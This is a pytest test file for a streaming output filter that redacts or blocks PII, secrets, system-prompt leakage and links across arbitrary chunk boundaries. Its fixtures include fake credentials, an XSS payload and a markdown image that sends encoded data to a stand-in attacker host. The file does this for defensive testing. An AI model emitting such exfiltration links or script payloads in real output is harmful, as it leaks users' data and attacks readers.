"""Stream windows: whatever the text and its chunks, nothing is shown but what the checks leave of the whole."""

import asyncio
import random
from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from fiel.policies.bundle import load_bundles, parse_bundle
from fiel.policies.plain import PlainPolicies, decide
from fiel.policies.windows import AHEAD, MOST, REACH, StreamStopped, StreamWindow

BUNDLES = load_bundles()
HOUSE = parse_bundle(
    """
name: house
extends: default
checks:
  - {check: pii, stages: {input: redact, output: review, tool: redact}}
""",
    base=BUNDLES["default"],
)
NAMES = parse_bundle(
    """
name: names
checks:
  - {check: pii, stages: {output: replace}}
  - {check: secrets, stages: {output: redact}}
  - {check: leakage, stages: {output: block}}
  - {check: links, stages: {output: redact}}
messages: {en: {blocked: No.}}
"""
)
POLICIES = PlainPolicies(BUNDLES | {"house": HOUSE, "names": NAMES})
PROMPT = (
    "You answer only from the passages that you are given and cite each of them by its marker, always and everywhere."
)
FACTS = {"prompt": PROMPT}
PLAIN = [
    "The bridge over the river was opened in 1912 by the mayor.", "Trains cross it every hour, also at night.",
    "¿Quién lo construyó? Fue una empresa de la ciudad.", "See [2] for 3 of the 14 arches.", "x < y, and y > z.",
    "\n\n- a list\n- of things\n", "🙂 emoji e\u0301 too.", "An open ![ that nobody closes.", "(see <note 3> there)",
]  # fmt: skip
FOUND = [
    "ana.ruiz@example.org", "4111 1111 1111 1111", "ES91 2100 0418 4502 0005 1332", "+34 612 345 678", "192.168.10.12",
    "ghp_012345678901234567890123456789abcdef", "![chart of the year](https://evil.example/x.png?d=c2VjcmV0)",
    "<img src=x onerror=alert(1)>", "AKIAIOSFODNN7EXAMPLE", "password = hunter2hunter2", "X9 12345678Z",
    "-----BEGIN PRIVATE KEY-----\n" + "MIIEvQIBADANBgkqhkiG9w0BAQEFAASC\n" * 12 + "-----END PRIVATE KEY-----",
    "https://a.example/?" + "q=" + "abcdefgh" * 40,
]  # fmt: skip
BLOCKED = [PROMPT, "you are given and cite each of them by its marker, always and everywhere"]
quick = settings(max_examples=80, deadline=None, suppress_health_check=[HealthCheck.too_slow])

texts = st.lists(st.sampled_from(PLAIN * 3 + FOUND + BLOCKED[:1]), max_size=24).flatmap(
    lambda parts: st.sampled_from([" ", "\n", ", "]).map(lambda glue: glue.join(parts))
)


def chunks(text: str, seed: int, longest: int) -> list[str]:
    """`text` cut anywhere."""
    rng, out, at = random.Random(seed), [], 0
    while at < len(text):
        size = rng.randint(1, longest)
        out.append(text[at : at + size])
        at += size
    return out


async def shown(name: str, pieces: list[str], facts: Any = FACTS) -> tuple[str, str]:
    """What a stream shows, and the reason with which it was stopped."""
    window = StreamWindow(POLICIES, POLICIES.bundle(name), "output", facts)
    out = ""
    try:
        for piece in pieces:
            out += await window.feed(piece)
            assert window.held <= MOST + REACH + len(piece)
        out += await window.close()
    except StreamStopped as stopped:
        with pytest.raises(StreamStopped):
            await window.feed("more")
        with pytest.raises(StreamStopped):
            await window.close()
        return out, stopped.decision.reason
    return out, ""


@pytest.mark.slow
@quick
@given(text=texts, seed=st.integers(0, 9999), longest=st.sampled_from([1, 3, 17, 200, 5000]))
@pytest.mark.parametrize("name", ["default", "strict", "house", "names"])
async def test_what_is_shown_is_what_the_checks_leave_of_the_whole(
    name: str, text: str, seed: int, longest: int
) -> None:
    whole = decide(POLICIES.bundle(name), "output", [text], FACTS)
    out, reason = await shown(name, chunks(text, seed, longest))
    if whole.action not in ("block", "review"):
        assert (out, reason) == (whole.parts[0], "")
        return
    assert reason
    while whole.action in ("block", "review"):  # what lies before all that is held back
        held = [verdict for verdict in whole.verdicts if verdict.action in ("block", "review")]
        text = text[: min(span.start for verdict in held for span in verdict.spans)]
        whole = decide(POLICIES.bundle(name), "output", [text], FACTS)
    assert whole.parts[0].startswith(out)


@pytest.mark.slow
@pytest.mark.parametrize("entity", FOUND)
async def test_no_boundary_lets_a_part_through(entity: str) -> None:
    """Every place of a window's end relative to every entity, a character at a time."""
    filler = "The bridge was opened in 1912. " * 12
    for shift in range(0, AHEAD + 40, 7):
        text = filler[: 200 + shift] + " " + entity + " " + filler
        whole = decide(POLICIES.bundle("default"), "output", [text], FACTS)
        out, _ = await shown("default", chunks(text, shift, 30))
        assert out == whole.parts[0]


async def test_something_is_shown_before_the_end() -> None:
    window = StreamWindow(POLICIES, POLICIES.bundle("default"))
    early = "".join([await window.feed("The bridge was opened in 1912. ") for _ in range(20)])
    assert len(early) > 200
    assert window.waiting < AHEAD + 60


async def test_fifty_streams_do_not_mix() -> None:
    async def one(number: int) -> None:
        text = f"Stream {number} says so. Ask u{number}@example.org about it. " * 30
        out = ""
        window = StreamWindow(POLICIES, POLICIES.bundle("default"))
        for piece in chunks(text, number, 40):
            out += await window.feed(piece)
            await asyncio.sleep(0)
        out += await window.close()
        assert out == f"Stream {number} says so. Ask [EMAIL] about it. " * 30

    await asyncio.gather(*(one(number) for number in range(50)))


async def test_fifty_streams_have_their_own_placeholders_across_their_chunks() -> None:
    async def one(number: int) -> None:
        text = f"Ask u{number}@example.org about it, or v@example.org, and then wait for the answer of both. " * 12
        known = {"<EMAIL_7>": "v@example.org"} if number % 2 else {}
        window = StreamWindow(POLICIES, POLICIES.bundle("names"), "output", {"placeholders": known})
        out = ""
        for piece in chunks(text, number, 40):
            out += await window.feed(piece)
            await asyncio.sleep(0)
        out += await window.close()
        first, second = ("<EMAIL_8>", "<EMAIL_7>") if number % 2 else ("<EMAIL_1>", "<EMAIL_2>")
        assert out == f"Ask {first} about it, or {second}, and then wait for the answer of both. " * 12
        assert window.placeholders == {first: f"u{number}@example.org", second: "v@example.org"}

    await asyncio.gather(*(one(number) for number in range(50)))


@pytest.mark.slow
async def test_a_stream_without_a_gap_is_stopped_and_memory_is_bounded() -> None:
    out, reason = await shown("default", ["a" * 1000] * 100)
    assert (out, reason) == ("", "too_long")
    out, reason = await shown("default", ["It was opened in 1912 by the mayor. "] * 3000)
    assert (out, reason) == ("It was opened in 1912 by the mayor. " * 3000, "")


async def test_a_check_that_fails_stops_the_stream(monkeypatch: pytest.MonkeyPatch) -> None:
    from fiel.policies.checks.pii import Pii

    def broken(*_: Any) -> Any:
        raise RuntimeError("broken")

    monkeypatch.setattr(Pii, "run", broken)
    assert await shown("default", ["The bridge was opened. "] * 40) == ("", "check_failed")
